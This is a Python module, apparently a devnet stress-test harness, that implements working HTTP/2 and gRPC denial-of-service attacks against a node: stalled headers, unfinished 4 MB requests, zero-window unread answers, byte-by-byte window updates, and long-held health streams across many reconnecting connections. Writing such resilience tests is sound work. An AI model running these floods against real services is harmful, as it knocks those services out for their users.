"""Attacks that leave something away: the last byte of requests, or the window that an answer needs.

gRPC makes room for a whole message as soon as it knows its length, keeps an answer until it is taken, and has no bound
for either but the number of calls on a connection. No credential is needed.
"""

import itertools
from collections.abc import Awaitable, Callable, Iterator
from typing import Final

import trio

from alatau.pb.api.v1 import transaction_service_pb2
from alatau.types.endpoint import Endpoint
from alatau_devnet.attack.frames import (
    END_HEADERS,
    END_STREAM,
    Kind,
    call_headers,
    frame,
    grpc_message,
    setting,
    window_update,
)
from alatau_devnet.attack.http2 import STATUS_PATH, Http2Connection, open_http2
from alatau_devnet.attack.tls import GONE, Outcome

CALL_PATH: Final = "/alatau.api.v1.TransactionService/Call"
WATCH_PATH: Final = "/grpc.health.v1.Health/Watch"
SUBMIT_PATH: Final = "/alatau.api.v1.TransactionService/SubmitTransactions"

_INITIAL_WINDOW: Final = 4
"""SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113, 6.5.2)."""
_CONNECTIONS: Final = 16
_CALLS: Final = 250
"""On each connection: a node lets 256 be open at once."""
_REQUEST_BYTES: Final = 4_000_000
_FRAME_BYTES: Final = 16_384
"""Longest frame that a server takes that has not said otherwise."""
_PAUSE_S: Final = 0.2
"""Before a connection that was closed is opened again."""
_TRICKLE_S: Final = 0.05

_RETURN_A_MEBIBYTE: Final = bytes.fromhex("621000005ff3")
"""PUSH3 0x100000 PUSH0 RETURN: init code whose call costs 2.2 million gas and answers with a mebibyte of zeros."""
BIG_ANSWER: Final = transaction_service_pb2.CallRequest(
    message=transaction_service_pb2.CallMessage(data=_RETURN_A_MEBIBYTE)
).SerializeToString()

Say = Callable[[Http2Connection, Outcome], Awaitable[None]]
"""What is said on one connection; then it is held until the node closes it."""


async def half_open_calls(target: Endpoint, seconds: float, path: str = STATUS_PATH) -> Outcome:
    """Calls of which nothing but the headers comes."""
    block = call_headers(path)

    async def say(connection: Http2Connection, outcome: Outcome) -> None:
        for stream in _streams(_CALLS):
            await connection.send(frame(Kind.HEADERS, block, flags=END_HEADERS, stream=stream))
            outcome.events["calls"] += 1

    return await _hold(target, seconds, Outcome("half-open calls"), 4 * _CONNECTIONS, say)


async def unfinished_requests(target: Endpoint, seconds: float, path: str = STATUS_PATH) -> Outcome:
    """Requests of 4 MB that lack their last byte, 250 at once on a connection."""
    block, prefix = call_headers(path), bytes(1) + _REQUEST_BYTES.to_bytes(4, "big")

    async def say(connection: Http2Connection, outcome: Outcome) -> None:
        for stream in _streams(_CALLS):
            begun = frame(Kind.HEADERS, block, flags=END_HEADERS, stream=stream)
            await connection.send(begun + frame(Kind.DATA, prefix, stream=stream))
            outcome.events["calls"] += 1
        for size in _portions(_REQUEST_BYTES - 1):
            piece = bytes(size)
            for stream in _streams(_CALLS):
                await connection.send(frame(Kind.DATA, piece, stream=stream))
            outcome.events["kB"] += _CALLS * size // 1_000

    return await _hold(target, seconds, Outcome("unfinished requests"), _CONNECTIONS, say)


async def unread_answers(
    target: Endpoint, seconds: float, path: str = CALL_PATH, request: bytes = BIG_ANSWER
) -> Outcome:
    """Calls with answers of a mebibyte, by clients that open no window for them."""
    call = frame(Kind.DATA, grpc_message(request), flags=END_STREAM)

    async def say(connection: Http2Connection, outcome: Outcome) -> None:
        await connection.send(frame(Kind.SETTINGS, setting(_INITIAL_WINDOW, 0)))
        await trio.sleep(_TRICKLE_S)
        await _call_all(connection, outcome, path, call)

    return await _hold(target, seconds, Outcome("unread answers"), _CONNECTIONS, say)


async def byte_by_byte(target: Endpoint, seconds: float, path: str = CALL_PATH, request: bytes = BIG_ANSWER) -> Outcome:
    """The same, taken a byte at a time: each costs the node a frame."""
    call = frame(Kind.DATA, grpc_message(request), flags=END_STREAM)

    async def say(connection: Http2Connection, outcome: Outcome) -> None:
        await connection.send(frame(Kind.SETTINGS, setting(_INITIAL_WINDOW, 1)))
        await trio.sleep(_TRICKLE_S)
        await _call_all(connection, outcome, path, call)
        updates = b"".join(window_update(1, stream) for stream in _streams(_CALLS))
        for _ in itertools.count():
            await connection.send(updates)
            outcome.events["window updates"] += _CALLS
            await trio.lowlevel.checkpoint()

    return await _hold(target, seconds, Outcome("a byte at a time"), 2, say)


async def health_watches(target: Endpoint, seconds: float) -> Outcome:
    """Streams of gRPC's own health service, which lasts as long as its client likes."""
    call = frame(Kind.DATA, grpc_message(b""), flags=END_STREAM)

    async def say(connection: Http2Connection, outcome: Outcome) -> None:
        await _call_all(connection, outcome, WATCH_PATH, call)

    return await _hold(target, seconds, Outcome("health watches"), 4 * _CONNECTIONS, say)


async def _call_all(connection: Http2Connection, outcome: Outcome, path: str, data: bytes) -> None:
    block = call_headers(path)
    for stream in _streams(_CALLS):
        body = data[:5] + stream.to_bytes(4, "big") + data[9:]
        await connection.send(frame(Kind.HEADERS, block, flags=END_HEADERS, stream=stream) + body)
        outcome.events["calls"] += 1
        await trio.lowlevel.checkpoint()


async def _hold(target: Endpoint, seconds: float, outcome: Outcome, connections: int, say: Say) -> Outcome:
    """Keep so many connections on which everything was said, and open another for each that the node closes."""

    async def one() -> None:
        while True:
            try:
                async with open_http2(target, outcome) as connection:
                    await say(connection, outcome)
                    await trio.sleep_forever()
            except* GONE:
                outcome.events["ended by node"] += 1
            await trio.sleep(_PAUSE_S)

    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for _ in range(connections):
                nursery.start_soon(one)
    return outcome


def _streams(count: int) -> range:
    """Client stream ids."""
    return range(1, 2 * count, 2)


def _portions(size: int) -> Iterator[int]:
    """Sizes of frames for so many bytes."""
    while size > 0:
        portion = min(size, _FRAME_BYTES)
        yield portion
        size -= portion
